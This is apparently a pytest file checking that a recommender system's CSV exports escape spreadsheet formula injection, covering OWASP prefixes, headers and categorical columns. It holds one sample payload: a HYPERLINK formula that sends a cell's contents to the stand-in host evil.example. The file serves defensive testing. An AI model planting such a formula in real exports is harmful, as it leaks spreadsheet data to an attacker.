"""CSV exports are safe to open in a spreadsheet: formula injection is neutralised."""

from __future__ import annotations

import csv
import io

import pandas as pd

from recsys_core.security.exports import neutralise_cell, safe_frame, to_csv_bytes

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for discount")'


def _cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"))))


def test_a_hyperlink_title_is_exported_inert() -> None:
    frame = pd.DataFrame(
        {"item_id": ["85123A", "@SUM(1)"], "title": [EVIL, "Mug"], "score": [-0.5, 2.0]}
    )
    rows = _cells(to_csv_bytes(frame))
    assert rows[1][1] == "'" + EVIL  # text, not a formula, when a spreadsheet opens it
    assert rows[2][0] == "'@SUM(1)"
    assert rows[1][2] == "-0.5"  # numbers stay numbers
    assert rows[2][1] == "Mug"


def test_every_owasp_prefix_is_neutralised_and_others_are_left_alone() -> None:
    for prefix in ("=", "+", "-", "@", "\t", "\r"):
        assert neutralise_cell(prefix + "1+1") == "'" + prefix + "1+1"
    for value in ("plain", "", "1+1", 3, -2.5, None):
        assert neutralise_cell(value) == value


def test_categorical_columns_and_headers_are_covered_too() -> None:
    frame = pd.DataFrame({"=cmd": pd.Categorical([EVIL, "ok"])})
    safe = safe_frame(frame)
    assert list(safe.columns) == ["'=cmd"]
    assert safe.iloc[0, 0] == "'" + EVIL


def test_the_apps_download_helper_uses_it() -> None:
    from ui.components import csv_bytes

    rows = _cells(csv_bytes(pd.DataFrame({"title": [EVIL]})))
    assert rows[1][0] == "'" + EVIL
